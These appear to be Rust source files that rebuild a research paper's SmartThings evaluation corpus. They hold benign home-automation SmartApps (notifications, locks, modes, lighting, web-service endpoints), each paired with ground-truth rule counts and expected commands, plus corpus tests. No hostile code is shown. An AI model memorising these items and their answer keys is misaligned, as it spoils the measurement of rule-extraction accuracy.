input "phone1", "phone", title: "Notify"
def installed() { subscribe(presence1, "presence.not present", leftHandler) }
def leftHandler(evt) { sendSms(phone1, "They left home") }
"#,
        category: Category::NotificationOnly,
        expected_rules: 1,
        expected_commands: &[],
    },
    CorpusApp {
        name: "DoorKnocker",
        source: r#"
definition(name: "DoorKnocker", description: "Push notification on door knock")
input "knock", "capability.accelerationSensor", title: "Door sensor"
def installed() { subscribe(knock, "acceleration.active", knockHandler) }
def knockHandler(evt) { sendPush("Someone is knocking") }
"#,
        category: Category::NotificationOnly,
        expected_rules: 1,
        expected_commands: &[],
    },
    CorpusApp {
        name: "MailArrived",
        source: r#"
definition(name: "MailArrived", description: "Text when the mailbox opens")
input "mailbox", "capability.contactSensor", title: "Mailbox sensor"
input "phone1", "phone", title: "Notify"
def installed() { subscribe(mailbox, "contact.open", mailHandler) }
def mailHandler(evt) { sendSms(phone1, "Mail is here") }
"#,
        category: Category::NotificationOnly,
        expected_rules: 1,
        expected_commands: &[],
    },
    CorpusApp {
        name: "BatteryLow",
        source: r#"
definition(name: "BatteryLow", description: "Warn about low device batteries daily")
input "sensor1", "capability.battery", title: "Battery device"
def installed() { runEvery3Hours(check) }
def check() {
    if (sensor1.currentBattery < 15) { sendPush("Battery low") }
}
"#,
        category: Category::NotificationOnly,
        expected_rules: 1,
        expected_commands: &[],
    },
    CorpusApp {
        name: "SmokeTextSquad",
        source: r#"
definition(name: "SmokeTextSquad", description: "Text multiple contacts on smoke")
input "smoke1", "capability.smokeDetector", title: "Smoke detector"
input "phone1", "phone", title: "First contact"
input "phone2", "phone", title: "Second contact"
def installed() { subscribe(smoke1, "smoke.detected", smokeHandler) }
def smokeHandler(evt) {
    sendSms(phone1, "SMOKE DETECTED")
    sendSms(phone2, "SMOKE DETECTED")
}
"#,
        category: Category::NotificationOnly,
        expected_rules: 1,
        expected_commands: &[],
    },
    CorpusApp {
        name: "TooHumidAlert",
        source: r#"
definition(name: "TooHumidAlert", description: "Warn when the crawlspace is humid")
input "hSensor", "capability.relativeHumidityMeasurement", title: "Crawlspace sensor"
def installed() { subscribe(hSensor, "humidity", humHandler) }
def humHandler(evt) {
    if (evt.value > 80) { sendPush("Crawlspace humidity high") }
}
"#,
        category: Category::NotificationOnly,
        expected_rules: 1,
        expected_commands: &[],
    },
    CorpusApp {
        name: "LeakAlert",
        source: r#"
definition(name: "LeakAlert", description: "Text on any water leak")
input "leak", "capability.waterSensor", title: "Leak sensor"
input "phone1", "phone", title: "Notify"
def installed() { subscribe(leak, "water.wet", wetHandler) }
def wetHandler(evt) { sendSms(phone1, "Water leak!") }
"#,
        category: Category::NotificationOnly,
        expected_rules: 1,
        expected_commands: &[],
    },
    CorpusApp {
        name: "GunCaseOpened",
        source: r#"
definition(name: "GunCaseOpened", description: "Immediate alert when the case opens")
input "case1", "capability.contactSensor", title: "Case sensor"
input "phone1", "phone", title: "Notify"
def installed() { subscribe(case1, "contact.open", openHandler) }
def openHandler(evt) {
    sendSms(phone1, "The case was opened")
    sendPush("The case was opened")
}
"#,
        category: Category::NotificationOnly,
        expected_rules: 1,
        expected_commands: &[],
    },
    CorpusApp {
        name: "ColdNightWarning",
        source: r#"
definition(name: "ColdNightWarning", description: "Push a warning if it will freeze overnight")
input "tSensor", "capability.temperatureMeasurement", title: "Outdoor sensor"
def installed() { schedule("21:30", nightCheck) }
def nightCheck() {
    if (tSensor.currentTemperature < 1) { sendPush("Freeze warning tonight") }
}
"#,
        category: Category::NotificationOnly,
        expected_rules: 1,
        expected_commands: &[],
    },
    CorpusApp {
        name: "PowerOutAlert",
        source: r#"
definition(name: "PowerOutAlert", description: "Text when the sump pump stops drawing power")
input "meter", "capability.powerMeter", title: "Sump pump meter"
input "phone1", "phone", title: "Notify"
def installed() { subscribe(meter, "power", powerHandler) }
def powerHandler(evt) {
    if (evt.value < 1) { sendSms(phone1, "Sump pump lost power") }
}
"#,
        category: Category::NotificationOnly,
        expected_rules: 1,
        expected_commands: &[],
    },
    CorpusApp {
        name: "WindowLeftOpen",
        source: r#"
definition(name: "WindowLeftOpen", description: "Evening reminder if a window contact is open")
input "winContact", "capability.contactSensor", title: "Window contact"
def installed() { schedule("20:30", eveningCheck) }
def eveningCheck() {
    if (winContact.currentContact == "open") { sendPush("A window is still open") }
}
"#,
        category: Category::NotificationOnly,
        expected_rules: 1,
        expected_commands: &[],
    },
    CorpusApp {
        name: "SeismicLogger",
        source: r#"
definition(name: "SeismicLogger", description: "Report vibration events to a home dashboard")
input "shaker", "capability.accelerationSensor", title: "Vibration sensor"
def installed() { subscribe(shaker, "acceleration.active", shakeHandler) }
def shakeHandler(evt) {
    httpPost([uri: "http://homedash.local/seismic", body: "shake"]) { resp -> }
}
"#,
        category: Category::NotificationOnly,
        expected_rules: 1,
        expected_commands: &[],
    },
];

/// The three §VIII-B special cases: non-standard device types and an
/// undocumented API. They fail extraction with the stock configuration and
/// succeed with `hg_symexec::ExtractorConfig::extended`.
pub static SPECIAL_APPS: &[CorpusApp] = &[
    CorpusApp {
        name: "FeedMyPet",
        source: r#"
definition(name: "FeedMyPet", description: "Feed the pet from a button press")
input "feeder", "device.petfeedershield", title: "Pet feeder"
input "btn", "capability.button", title: "Feed button"
def installed() { subscribe(btn, "button.pushed", feedNow) }
def feedNow(evt) { feeder.feed() }
"#,
        category: Category::Special,
        expected_rules: 1,
        expected_commands: &["feed"],
    },
    CorpusApp {
        name: "SleepyTime",
        source: r#"
definition(name: "SleepyTime", description: "Night mode and lights out when the wearable reports sleep")
input "tracker", "device.jawboneUser", title: "Sleep tracker"
input "lights", "capability.switch", title: "Bedroom lights", multiple: true
def installed() { subscribe(tracker, "sleeping.sleeping", asleep) }
def asleep(evt) {
    setLocationMode("Night")
    lights.off()
}
"#,
        category: Category::Special,
        expected_rules: 1,
        expected_commands: &["setLocationMode", "off"],
    },
    CorpusApp {
        name: "CameraPowerScheduler",
        source: r#"
definition(name: "CameraPowerScheduler", description: "Power the cameras every evening")
input "cams", "capability.switch", title: "Camera outlets", multiple: true
def installed() { runDaily("18:30", powerOn) }
def powerOn() { cams.on() }
"#,
        category: Category::Special,
        expected_rules: 1,
        expected_commands: &["on"],
    },
];

/// Web Services SmartApps: expose endpoints, define no automation
/// themselves (the paper removes 36 such apps before extraction).
pub static WEB_SERVICE_APPS: &[CorpusApp] = &[
    CorpusApp {
        name: "WebSwitchBoard",
        source: r#"
definition(name: "WebSwitchBoard", description: "Expose switches over a web API")
input "switches", "capability.switch", title: "Switches", multiple: true
mappings {
    path("/switches") {
        action: [GET: "listSwitches", PUT: "updateSwitches"]
    }
}
def installed() { }
def listSwitches() { return switches.currentSwitch }
def updateSwitches() { switches.on() }
"#,
        category: Category::WebService,
        expected_rules: 0,
        expected_commands: &[],
    },
    CorpusApp {
        name: "WebLockView",
        source: r#"
definition(name: "WebLockView", description: "Expose lock state over a web API")
input "door", "capability.lock", title: "Door"
mappings {
    path("/lock") {
        action: [GET: "lockState"]
    }
}
def installed() { }
def lockState() { return door.currentLock }
"#,
        category: Category::WebService,
        expected_rules: 0,
        expected_commands: &[],
    },
    CorpusApp {
        name: "WebThermoBridge",
        source: r#"
definition(name: "WebThermoBridge", description: "Expose thermostat setpoints over a web API")
input "stat", "capability.thermostat", title: "Thermostat"
mappings {
    path("/setpoint") {
        action: [GET: "getSetpoint", PUT: "setSetpoint"]
    }
}
def installed() { }
def getSetpoint() { return stat.currentHeatingSetpoint }
def setSetpoint() { stat.setHeatingSetpoint(21) }
"#,
        category: Category::WebService,
        expected_rules: 0,
        expected_commands: &[],
    },
    CorpusApp {
        name: "WebPresenceFeed",
        source: r#"
definition(name: "WebPresenceFeed", description: "Expose presence state over a web API")
input "presence1", "capability.presenceSensor", title: "Phone"
mappings {
    path("/presence") {
        action: [GET: "presenceState"]
    }
}
def installed() { }
def presenceState() { return presence1.currentPresence }
"#,
        category: Category::WebService,
        expected_rules: 0,
        expected_commands: &[],
    },
];
