//! Security, locks, modes and presence automation, including the chained-
//! threat apps the paper names in §VIII-B (SwitchChangesMode, MakeItSo,
//! CurlingIron, NFCTagToggle, LockItWhenILeave) and the Figs. 4-5 demo apps
//! (BurglarFinder, NightCare).

use crate::catalog::{Category, CorpusApp};

/// The security corpus slice.
pub static SECURITY_APPS: &[CorpusApp] = &[
    CorpusApp {
        name: "BurglarFinder",
        source: r#"
definition(name: "BurglarFinder", description: "Sound the alarm if the floor lamp is on with motion at midnight")
input "floorLamp", "capability.switch", title: "Floor lamp"
input "motion1", "capability.motionSensor", title: "Motion sensor"
input "siren1", "capability.alarm", title: "Siren"
def installed() { subscribe(floorLamp, "switch.on", lampHandler) }
def lampHandler(evt) {
    if (motion1.currentMotion == "active" && floorLamp.currentSwitch == "on") {
        siren1.siren()
    }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["siren"],
    },
    CorpusApp {
        name: "NightCare",
        source: r#"
definition(name: "NightCare", description: "Turn the floor lamp off after 5 minutes in sleep mode")
input "floorLamp", "capability.switch", title: "Floor lamp"
def installed() { subscribe(floorLamp, "switch.on", lampHandler) }
def lampHandler(evt) {
    if (location.mode == "Night") { runIn(300, lampOff) }
}
def lampOff() { floorLamp.off() }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["off"],
    },
    CorpusApp {
        name: "SwitchChangesMode",
        source: r#"
definition(name: "SwitchChangesMode", description: "Change the home mode from a switch")
input "toggle", "capability.switch", title: "Mode switch"
def installed() { subscribe(toggle, "switch", switchHandler) }
def switchHandler(evt) {
    if (evt.value == "on") {
        setLocationMode("Home")
    } else {
        setLocationMode("Away")
    }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 2,
        expected_commands: &["setLocationMode"],
    },
    CorpusApp {
        name: "MakeItSo",
        source: r#"
definition(name: "MakeItSo", description: "Restore switch and lock states when the home changes mode")
input "door", "capability.lock", title: "Front door lock"
input "switches", "capability.switch", title: "Switches", multiple: true
def installed() { subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    if (location.mode == "Home") {
        door.unlock()
        switches.on()
    } else {
        door.lock()
        switches.off()
    }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 2,
        expected_commands: &["unlock", "on", "lock", "off"],
    },
    CorpusApp {
        name: "CurlingIron",
        source: r#"
definition(name: "CurlingIron", description: "Turn on the vanity outlets when motion is detected")
input "motion1", "capability.motionSensor", title: "Bathroom motion"
input "outlets", "capability.switch", title: "Curling iron outlets", multiple: true
def installed() { subscribe(motion1, "motion.active", motionHandler) }
def motionHandler(evt) {
    outlets.on()
    runIn(1800, outletsOff)
}
def outletsOff() { outlets.off() }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["on", "off"],
    },
    CorpusApp {
        name: "NFCTagToggle",
        source: r#"
definition(name: "NFCTagToggle", description: "Toggle appliances and the door lock from an app tap")
input "switches", "capability.switch", title: "Appliances", multiple: true
input "door", "capability.lock", title: "Door lock"
def installed() { subscribe(app, appTouch) }
def appTouch(evt) {
    if (switches.currentSwitch == "on") {
        switches.off()
        door.lock()
    } else {
        switches.on()
        door.unlock()
    }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 2,
        expected_commands: &["off", "lock", "on", "unlock"],
    },
    CorpusApp {
        name: "LockItWhenILeave",
        source: r#"
definition(name: "LockItWhenILeave", description: "Lock the doors when my presence sensor leaves")
input "presence1", "capability.presenceSensor", title: "Whose phone?"
input "doors", "capability.lock", title: "Doors", multiple: true
def installed() { subscribe(presence1, "presence.not present", leftHandler) }
def leftHandler(evt) { doors.lock() }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["lock"],
    },
    CorpusApp {
        name: "LockItAtNight",
        source: r#"
definition(name: "LockItAtNight", description: "Lock everything at 23:00")
input "doors", "capability.lock", title: "Doors", multiple: true
def installed() { schedule("23:00", lockUp) }
def lockUp() { doors.lock() }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["lock"],
    },
    CorpusApp {
        name: "UnlockOnArrival",
        source: r#"
definition(name: "UnlockOnArrival", description: "Unlock the front door when I arrive home")
input "presence1", "capability.presenceSensor", title: "Whose phone?"
input "door", "capability.lock", title: "Front door"
def installed() { subscribe(presence1, "presence.present", arriveHandler) }
def arriveHandler(evt) { door.unlock() }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["unlock"],
    },
    CorpusApp {
        name: "GoodnightHouse",
        source: r#"
definition(name: "GoodnightHouse", description: "Night mode locks doors and kills lights")
input "doors", "capability.lock", title: "Doors", multiple: true
input "lights", "capability.switch", title: "Lights", multiple: true
def installed() { subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    if (location.mode == "Night") {
        doors.lock()
        lights.off()
    }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["lock", "off"],
    },
    CorpusApp {
        name: "SmokeSiren",
        source: r#"
definition(name: "SmokeSiren", description: "Sound the siren and unlock exits when smoke is detected")
input "smoke1", "capability.smokeDetector", title: "Smoke detector"
input "siren1", "capability.alarm", title: "Siren"
input "exits", "capability.lock", title: "Exit doors", multiple: true
def installed() { subscribe(smoke1, "smoke.detected", smokeHandler) }
def smokeHandler(evt) {
    siren1.both()
    exits.unlock()
}
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["both", "unlock"],
    },
    CorpusApp {
        name: "COShutoff",
        source: r#"
definition(name: "COShutoff", description: "Kill the furnace when carbon monoxide is detected")
input "co1", "capability.carbonMonoxideDetector", title: "CO detector"
input "furnace", "capability.switch", title: "Furnace switch"
def installed() { subscribe(co1, "carbonMonoxide.detected", coHandler) }
def coHandler(evt) { furnace.off() }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["off"],
    },
    CorpusApp {
        name: "LeakShutoff",
        source: r#"
definition(name: "LeakShutoff", description: "Close the water main on a leak")
input "leak", "capability.waterSensor", title: "Leak sensor"
input "main", "capability.valve", title: "Water main valve"
def installed() { subscribe(leak, "water.wet", wetHandler) }
def wetHandler(evt) { main.close() }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["close"],
    },
    CorpusApp {
        name: "SirenOnBreakin",
        source: r#"
definition(name: "SirenOnBreakin", description: "Siren when a door opens in Away mode")
input "contact1", "capability.contactSensor", title: "Door contact"
input "siren1", "capability.alarm", title: "Siren"
def installed() { subscribe(contact1, "contact.open", openHandler) }
def openHandler(evt) {
    if (location.mode == "Away") { siren1.siren() }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["siren"],
    },
    CorpusApp {
        name: "QuietTheSiren",
        source: r#"
definition(name: "QuietTheSiren", description: "Silence the siren when the home mode returns to Home")
input "siren1", "capability.alarm", title: "Siren"
def installed() { subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    if (location.mode == "Home") { siren1.off() }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["off"],
    },
    CorpusApp {
        name: "PresenceMode",
        source: r#"
definition(name: "PresenceMode", description: "Set Away when everyone leaves, Home when anyone arrives")
input "presence1", "capability.presenceSensor", title: "Household phones"
def installed() { subscribe(presence1, "presence", presenceHandler) }
def presenceHandler(evt) {
    if (evt.value == "present") {
        setLocationMode("Home")
    } else {
        setLocationMode("Away")
    }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 2,
        expected_commands: &["setLocationMode"],
    },
    CorpusApp {
        name: "EveryoneAsleep",
        source: r#"
definition(name: "EveryoneAsleep", description: "Enter Night mode when the sleep sensor reports sleeping")
input "bed", "capability.sleepSensor", title: "Sleep sensor"
def installed() { subscribe(bed, "sleeping.sleeping", asleepHandler) }
def asleepHandler(evt) { setLocationMode("Night") }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["setLocationMode"],
    },
    CorpusApp {
        name: "BackDoorWatch",
        source: r#"
definition(name: "BackDoorWatch", description: "Text me when the back door opens while Away")
input "contact1", "capability.contactSensor", title: "Back door"
input "phone1", "phone", title: "Phone"
def installed() { subscribe(contact1, "contact.open", openHandler) }
def openHandler(evt) {
    if (location.mode == "Away") { sendSms(phone1, "Back door opened!") }
}
"#,
        category: Category::NotificationOnly,
        expected_rules: 1,
        expected_commands: &[],
    },
    CorpusApp {
        name: "GarageLeftOpen",
        source: r#"
definition(name: "GarageLeftOpen", description: "Close the garage if it stays open into the night")
input "garage", "capability.garageDoorControl", title: "Garage door"
def installed() { schedule("22:00", nightCheck) }
def nightCheck() {
    if (garage.currentDoor == "open") { garage.close() }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["close"],
    },
    CorpusApp {
        name: "CameraOnDeparture",
        source: r#"
definition(name: "CameraOnDeparture", description: "Arm the camera outlet when the home goes Away")
input "camOutlet", "capability.switch", title: "Camera outlet"
def installed() { subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    if (location.mode == "Away") { camOutlet.on() } else { camOutlet.off() }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 2,
        expected_commands: &["on", "off"],
    },
    CorpusApp {
        name: "KnockKnock",
        source: r#"
definition(name: "KnockKnock", description: "Chime when someone knocks (vibration without opening)")
input "knock", "capability.accelerationSensor", title: "Door sensor"
input "chime", "capability.tone", title: "Chime"
def installed() { subscribe(knock, "acceleration.active", knockHandler) }
def knockHandler(evt) { chime.beep() }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["beep"],
    },
];
