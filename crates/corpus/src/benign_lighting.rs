//! Lighting and illuminance automation apps, including the light-control
//! apps the paper names in §VIII-B (LetThereBeDark, UndeadEarlyWarning,
//! LightsOffWhenClosed, SmartNightlight, TurnItOnFor5Minutes,
//! LightUpTheNight).

use crate::catalog::{Category, CorpusApp};

/// The lighting corpus slice.
pub static LIGHTING_APPS: &[CorpusApp] = &[
    CorpusApp {
        name: "LetThereBeDark",
        source: r#"
definition(name: "LetThereBeDark", description: "Turn lights off when a door closes and on when it opens")
input "contact1", "capability.contactSensor", title: "Which door?"
input "lights", "capability.switch", title: "These lights", multiple: true
def installed() { subscribe(contact1, "contact", contactHandler) }
def contactHandler(evt) {
    if (evt.value == "closed") { lights.off() } else { lights.on() }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 2,
        expected_commands: &["off", "on"],
    },
    CorpusApp {
        name: "UndeadEarlyWarning",
        source: r#"
definition(name: "UndeadEarlyWarning", description: "Flash lights when motion is detected at night")
input "motion1", "capability.motionSensor", title: "Where?"
input "lights", "capability.switch", title: "These lights", multiple: true
def installed() { subscribe(motion1, "motion.active", motionHandler) }
def motionHandler(evt) {
    if (location.mode == "Night") { lights.on() }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["on"],
    },
    CorpusApp {
        name: "LightsOffWhenClosed",
        source: r#"
definition(name: "LightsOffWhenClosed", description: "Turn lights off when a contact sensor closes")
input "contact1", "capability.contactSensor", title: "Which sensor?"
input "lights", "capability.switch", title: "These lights", multiple: true
def installed() { subscribe(contact1, "contact.closed", closedHandler) }
def closedHandler(evt) { lights.off() }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["off"],
    },
    CorpusApp {
        name: "SmartNightlight",
        source: r#"
definition(name: "SmartNightlight", description: "Light follows motion when it is dark")
input "motion1", "capability.motionSensor", title: "Where?"
input "lSensor", "capability.illuminanceMeasurement", title: "Light sensor"
input "darkLevel", "number", title: "Dark below (lux)?"
input "lights", "capability.switch", title: "These lights", multiple: true
def installed() {
    subscribe(motion1, "motion", motionHandler)
}
def motionHandler(evt) {
    if (evt.value == "active") {
        if (lSensor.currentIlluminance < darkLevel) { lights.on() }
    } else {
        runIn(120, lightsOff)
    }
}
def lightsOff() { lights.off() }
"#,
        category: Category::DeviceControl,
        expected_rules: 2,
        expected_commands: &["on", "off"],
    },
    CorpusApp {
        name: "TurnItOnFor5Minutes",
        source: r#"
definition(name: "TurnItOnFor5Minutes", description: "Switch on for 5 minutes when a door opens")
input "contact1", "capability.contactSensor", title: "Which door?"
input "switch1", "capability.switch", title: "Which light?"
def installed() { subscribe(contact1, "contact.open", openHandler) }
def openHandler(evt) {
    switch1.on()
    runIn(300, turnOff)
}
def turnOff() { switch1.off() }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["on", "off"],
    },
    CorpusApp {
        name: "LightUpTheNight",
        source: r#"
definition(name: "LightUpTheNight", description: "Turn lights on when dark, off when bright")
input "lSensor", "capability.illuminanceMeasurement", title: "Light sensor"
input "lights", "capability.switch", title: "These lights", multiple: true
def installed() { subscribe(lSensor, "illuminance", luxHandler) }
def luxHandler(evt) {
    if (evt.value < 30) {
        lights.on()
    } else if (evt.value > 50) {
        lights.off()
    }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 2,
        expected_commands: &["on", "off"],
    },
    CorpusApp {
        name: "DarkWhenISleep",
        source: r#"
definition(name: "DarkWhenISleep", description: "All lights off when the home enters Night mode")
input "lights", "capability.switch", title: "Lights to kill", multiple: true
def installed() { subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    if (location.mode == "Night") { lights.off() }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["off"],
    },
    CorpusApp {
        name: "WelcomeHomeLights",
        source: r#"
definition(name: "WelcomeHomeLights", description: "Turn on the porch light when someone arrives")
input "presence1", "capability.presenceSensor", title: "Whose phone?"
input "porch", "capability.switch", title: "Porch light"
def installed() { subscribe(presence1, "presence.present", arriveHandler) }
def arriveHandler(evt) { porch.on() }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["on"],
    },
    CorpusApp {
        name: "GoodbyeDarkness",
        source: r#"
definition(name: "GoodbyeDarkness", description: "Dim lamp on at sunset")
input "lamp", "capability.switchLevel", title: "Dimmable lamp"
input "dimLevel", "number", title: "Level?"
def installed() { subscribe(location, "sunset", sunsetHandler) }
def sunsetHandler(evt) { lamp.setLevel(dimLevel) }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["setLevel"],
    },
    CorpusApp {
        name: "SunriseShutoff",
        source: r#"
definition(name: "SunriseShutoff", description: "All lights off at sunrise")
input "lights", "capability.switch", title: "Lights", multiple: true
def installed() { subscribe(location, "sunrise", sunriseHandler) }
def sunriseHandler(evt) { lights.off() }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["off"],
    },
    CorpusApp {
        name: "BrightenMyPath",
        source: r#"
definition(name: "BrightenMyPath", description: "Turn a light on when there is motion")
input "motion1", "capability.motionSensor", title: "Where?"
input "lamp", "capability.switch", title: "Light"
def installed() { subscribe(motion1, "motion.active", onMotion) }
def onMotion(evt) { lamp.on() }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["on"],
    },
    CorpusApp {
        name: "LightsOutWhenQuiet",
        source: r#"
definition(name: "LightsOutWhenQuiet", description: "Lights off after no motion for a while")
input "motion1", "capability.motionSensor", title: "Where?"
input "minutes1", "number", title: "After how many minutes?"
input "lights", "capability.switch", title: "Lights", multiple: true
def installed() { subscribe(motion1, "motion.inactive", quietHandler) }
def quietHandler(evt) { runIn(600, lightsOut) }
def lightsOut() { lights.off() }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["off"],
    },
    CorpusApp {
        name: "CloseTheCurtains",
        source: r#"
definition(name: "CloseTheCurtains", description: "Close the shades when it gets bright inside")
input "lSensor", "capability.illuminanceMeasurement", title: "Light sensor"
input "glareLevel", "number", title: "Too bright above (lux)?"
input "shade", "capability.windowShade", title: "Which shade?"
def installed() { subscribe(lSensor, "illuminance", luxHandler) }
def luxHandler(evt) {
    if (evt.value > glareLevel) { shade.close() }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["close"],
    },
    CorpusApp {
        name: "MorningCurtains",
        source: r#"
definition(name: "MorningCurtains", description: "Open the curtain if the room is too dark during the day")
input "lSensor", "capability.illuminanceMeasurement", title: "Light sensor"
input "shade", "capability.windowShade", title: "Which curtain?"
def installed() { subscribe(lSensor, "illuminance", luxHandler) }
def luxHandler(evt) {
    if (evt.value < 15 && location.mode == "Home") { shade.open() }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["open"],
    },
    CorpusApp {
        name: "ColorMeCalm",
        source: r#"
definition(name: "ColorMeCalm", description: "Set a lamp to a calm color level in the evening")
input "lamp", "capability.switchLevel", title: "Color lamp"
def installed() { schedule("21:00", calmDown) }
def calmDown() { lamp.setLevel(20) }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["setLevel"],
    },
    CorpusApp {
        name: "DoubleTapDim",
        source: r#"
definition(name: "DoubleTapDim", description: "Button press dims the den lamp")
input "btn", "capability.button", title: "Which button?"
input "lamp", "capability.switchLevel", title: "Den lamp"
def installed() { subscribe(btn, "button.pushed", pressed) }
def pressed(evt) { lamp.setLevel(35) }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["setLevel"],
    },
    CorpusApp {
        name: "HallwayNightGlow",
        source: r#"
definition(name: "HallwayNightGlow", description: "Low hallway light during Night mode on motion")
input "motion1", "capability.motionSensor", title: "Hallway motion"
input "hall", "capability.switchLevel", title: "Hallway light"
def installed() { subscribe(motion1, "motion.active", onMotion) }
def onMotion(evt) {
    if (location.mode == "Night") { hall.setLevel(10) } else { hall.setLevel(80) }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 2,
        expected_commands: &["setLevel"],
    },
    CorpusApp {
        name: "VacationLighting",
        source: r#"
definition(name: "VacationLighting", description: "Simulate presence by toggling lights in Away mode")
input "lights", "capability.switch", title: "Lights", multiple: true
def installed() { runEvery1Hour(tick) }
def tick() {
    if (location.mode == "Away") {
        if (lights.currentSwitch == "off") { lights.on() } else { lights.off() }
    }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 2,
        expected_commands: &["on", "off"],
    },
    CorpusApp {
        name: "GarageLightOnDoor",
        source: r#"
definition(name: "GarageLightOnDoor", description: "Garage light when garage door opens")
input "garage", "capability.garageDoorControl", title: "Garage door"
input "lamp", "capability.switch", title: "Garage light"
def installed() { subscribe(garage, "door.open", opened) }
def opened(evt) {
    lamp.on()
    runIn(900, lampOff)
}
def lampOff() { lamp.off() }
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["on", "off"],
    },
    CorpusApp {
        name: "MovieTime",
        source: r#"
definition(name: "MovieTime", description: "Dim everything when the TV turns on in the evening")
input "tv1", "capability.switch", title: "The TV"
input "lights", "capability.switchLevel", title: "Living room lights", multiple: true
def installed() { subscribe(tv1, "switch.on", tvOn) }
def tvOn(evt) {
    if (location.mode != "Away") { lights.setLevel(15) }
}
"#,
        category: Category::DeviceControl,
        expected_rules: 1,
        expected_commands: &["setLevel"],
    },
];
