//! # hg-corpus — the SmartApp population
//!
//! Recreates the paper's evaluation corpus (the SmartThings public
//! repository, §VIII-B): benign automation apps across lighting, climate,
//! security, convenience and notification domains — including every app the
//! paper names — plus the 18 malicious apps of Table III and Web Services
//! apps that define no automation.
//!
//! Each benign entry carries manually-derived ground truth (rule count and
//! actuation command set) so extraction effectiveness can be measured the
//! way the paper does.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod benign_climate;
pub mod benign_lighting;
pub mod benign_misc;
pub mod benign_security;
pub mod catalog;
pub mod malicious;

pub use catalog::{Category, CorpusApp};
pub use malicious::{AttackClass, MaliciousApp, MALICIOUS_APPS};

/// All benign corpus apps.
pub fn benign_apps() -> Vec<&'static CorpusApp> {
    benign_lighting::LIGHTING_APPS
        .iter()
        .chain(benign_climate::CLIMATE_APPS)
        .chain(benign_security::SECURITY_APPS)
        .chain(benign_misc::CONVENIENCE_APPS)
        .chain(benign_misc::NOTIFICATION_APPS)
        .chain(benign_misc::SPECIAL_APPS)
        .chain(benign_misc::WEB_SERVICE_APPS)
        .collect()
}

/// The automation-defining subset (everything except Web Services apps),
/// mirroring the paper's 146-app extraction population.
pub fn automation_apps() -> Vec<&'static CorpusApp> {
    benign_apps()
        .into_iter()
        .filter(|a| a.category != Category::WebService)
        .collect()
}

/// The device-controlling subset used for the Fig. 8 pairwise analysis
/// (the paper's 90-app population).
pub fn device_control_apps() -> Vec<&'static CorpusApp> {
    benign_apps()
        .into_iter()
        .filter(|a| matches!(a.category, Category::DeviceControl | Category::Special))
        .collect()
}

/// Looks up a benign app by name.
pub fn benign_app(name: &str) -> Option<&'static CorpusApp> {
    benign_apps().into_iter().find(|a| a.name == name)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn corpus_size_is_substantial() {
        let all = benign_apps();
        assert!(all.len() >= 75, "corpus has {} apps", all.len());
        assert!(automation_apps().len() >= 70);
        assert!(device_control_apps().len() >= 55);
    }

    #[test]
    fn names_are_unique() {
        let mut names: Vec<_> = benign_apps().iter().map(|a| a.name).collect();
        names.extend(MALICIOUS_APPS.iter().map(|a| a.name));
        let before = names.len();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), before, "duplicate app names in corpus");
    }

    #[test]
    fn paper_named_apps_present() {
        for name in [
            "ComfortTV",
            "ColdDefender",
            "CatchLiveShow",
            "BurglarFinder",
            "NightCare",
            "SwitchChangesMode",
            "MakeItSo",
            "CurlingIron",
            "NFCTagToggle",
            "LockItWhenILeave",
            "LetThereBeDark",
            "UndeadEarlyWarning",
            "LightsOffWhenClosed",
            "SmartNightlight",
            "TurnItOnFor5Minutes",
            "LightUpTheNight",
            "ItsTooHot",
            "EnergySaver",
            "FeedMyPet",
            "SleepyTime",
            "CameraPowerScheduler",
